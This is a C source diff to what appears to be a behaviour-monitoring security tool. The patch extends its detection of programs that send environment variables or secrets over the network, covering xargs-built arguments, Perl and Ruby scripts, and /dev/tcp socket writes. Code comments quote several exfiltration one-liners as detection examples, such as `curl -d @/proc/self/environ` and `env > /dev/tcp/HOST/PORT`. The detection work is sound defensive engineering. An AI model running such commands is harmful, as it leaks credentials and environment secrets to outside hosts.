@@ -271,13 +271,16 @@ static bool is_package_manager(const struct bw_proc *p)
 	       (p->origin && in_list(package_managers, path_basename(p->origin)));
 }
 
-/* /proc/self/environ, /proc/PID/environ, /proc/PID/task/TID/environ */
+/*
+ * /proc/self/environ, /proc/PID/environ, /proc/PID/task/TID/environ, also
+ * as an option's value (`-d @/proc/self/environ`, `--post-file=/proc/…`).
+ */
 static bool is_environ_file(const char *a)
 {
 	const char *leaf;
 
-	return a[0] == '/' && !strncmp(a, "/proc/", 6) && (leaf = strrchr(a, '/')) &&
-	       !strcmp(leaf, "/environ");
+	a = strstr(a, "/proc/");
+	return a && (leaf = strrchr(a, '/')) && !strcmp(leaf, "/environ");
 }
 
 /*
@@ -836,7 +839,7 @@ static const struct bw_proc *program_owner(const struct bw_proc *p)
 	return p;
 }
 
-static void read_text_facts(struct provenance *pv, struct bw_proc *p, uint32_t want_from);
+static void read_text_facts(struct provenance *pv, struct bw_proc *p, bool connected);
 
 void prov_on_exec(struct provenance *pv, const struct bw_proctab *t, struct bw_proc *p,
 		  const struct bw_event_view *v, struct prov_rejudge *out)
@@ -882,7 +885,7 @@ void prov_on_exec(struct provenance *pv, const struct bw_proctab *t, struct bw_p
 	/* `curl URL > file`, `base64 -d > file`: the shell opened it for them. */
 	if (tags && p->stdio[1].kind == BW_STDIO_FILE && (p->stdio[1].mode & BW_STDIO_WRITE))
 		drop_record(pv, v->stdio_path[1], p, tags, out);
-	read_text_facts(pv, p, BW_PROG_FILE);
+	read_text_facts(pv, p, false);
 }
 
 /*
@@ -1419,8 +1422,22 @@ static uint32_t env_file_tags(struct provenance *pv, const struct bw_proc *p)
 }
 
 /*
+ * What xargs (or parallel) read and made p's arguments of (`env | xargs
+ * -I{} curl -d {} URL`): its input, when p is its child.
+ */
+static uint32_t xargs_tags(struct provenance *pv, const struct bw_proc *p)
+{
+	static const char *const builders[] = { "xargs", "parallel", NULL };
+	const struct bw_proc *up = p->parent;
+
+	return up && up->n_execs && in_list(builders, program_base(up)) ? input_tags(pv, up) : 0;
+}
+
+/*
  * What a program that talks to the network was handed: on stdin, in $(...)
- * arguments, in a file; or what its own code takes (the whole environment).
+ * arguments, in a file, in the arguments xargs built for it; or what it
+ * takes itself (an environ file it is given, `curl -d @/proc/self/environ`;
+ * the whole environment, in its own code).
  */
 static uint32_t sends_tags(struct provenance *pv, const struct bw_proctab *t,
 			   const struct bw_proc *p)
@@ -1428,6 +1445,7 @@ static uint32_t sends_tags(struct provenance *pv, const struct bw_proctab *t,
 	if (!(p->prov & TALKS_TO_NETWORK))
 		return 0;
 	return (input_tags(pv, p) | substitution_tags(pv, t, p) | env_file_tags(pv, p) |
+		xargs_tags(pv, p) | (p->prov & BW_PROV_ENVIRONMENT) |
 		(p->prov & PROV_F_TEXT_ENV_SENT ? BW_PROV_ENVIRONMENT : 0)) &
 	       DATA_TAGS;
 }
@@ -1457,27 +1475,44 @@ static int stdin_program_text(struct provenance *pv, const struct bw_proc *p, ch
 	return program_text(owner, from, operand, text, len);
 }
 
-/* The reader of p's program text by its language, or NULL: Python and Node.js. */
-static unsigned (*text_facts_of(const struct bw_proc *p))(const char *, size_t)
+/*
+ * The reader of p's program text by its language, or NULL: Python,
+ * Node.js, Perl, Ruby. *at_exec: a script file is read at the exec
+ * (Python's and Node's: install scripts, removed once they ran); Perl's
+ * and Ruby's only once they connect (autotools and debhelper run many
+ * Perl scripts that never do).
+ */
+static unsigned (*text_facts_of(const struct bw_proc *p, bool *at_exec))(const char *, size_t)
 {
 	const char *base = program_base(p);
 
+	*at_exec = true;
 	if (!strncmp(base, "python", 6))
 		return python_text_facts;
 	if (!strcmp(base, "node") || !strcmp(base, "nodejs"))
 		return node_text_facts;
+	*at_exec = false;
+	if (!strncmp(base, "perl", 4))
+		return perl_text_facts;
+	if (!strncmp(base, "ruby", 4))
+		return ruby_text_facts;
 	return NULL;
 }
 
 /*
  * What p's program text does (TEXT_*), read once per exec: a script file
  * at the exec itself (a script may be gone by the time it connects: an
- * install script removed once it ran), a here-document at its first
- * connect (its shell's text stays).
+ * install script removed once it ran) or, for Perl and Ruby, at its first
+ * connect (connected: true); a here-document at its first connect (its
+ * shell's text stays).
  */
-static void read_text_facts(struct provenance *pv, struct bw_proc *p, uint32_t want_from)
+static void read_text_facts(struct provenance *pv, struct bw_proc *p, bool connected)
 {
-	unsigned (*facts_of)(const char *, size_t) = text_facts_of(p);
+	bool at_exec;
+	unsigned (*facts_of)(const char *, size_t) = text_facts_of(p, &at_exec);
+	/* a file at the exec or, for the late readers, at the connect; stdin at the connect */
+	uint32_t want_from = connected ? BW_PROG_STDIN | (at_exec ? 0 : BW_PROG_FILE)
+				       : (at_exec ? BW_PROG_FILE : 0);
 	const char *operand;
 	char *text = NULL;
 	unsigned facts;
@@ -1506,7 +1541,7 @@ void prov_before_connect(struct provenance *pv, const struct bw_proctab *t, stru
 {
 	(void)t;
 	if (tables(pv) && first_data_connect(p, c))
-		read_text_facts(pv, p, BW_PROG_STDIN);
+		read_text_facts(pv, p, true);
 }
 
 static bool same_file(const char *a, const char *b)
@@ -1629,6 +1664,9 @@ void prov_fill(struct provenance *pv, const struct bw_proctab *t, struct bw_proc
 	info->script_prov |= evaluated_capture_tags(pv, t, p, info->program_from, operand) |
 			     (p->prov & PROV_F_TEXT_FETCH_EVAL ? BW_PROV_NETWORK : 0);
 	info->sends_prov = sends_tags(pv, t, p) | builtin_env_tags(p);
+	/* `env > /dev/tcp/HOST/PORT`, `env | base64 > /dev/tcp/…`: a dump written into a socket */
+	if (is_ip_socket(&p->stdio[1]))
+		info->sends_prov |= output_tags(pv, p) & BW_PROV_ENVIRONMENT;
 	loaded_exe(pv, p, info);
 	d = drop_of_program(pv, p, operand);
 	if (d)
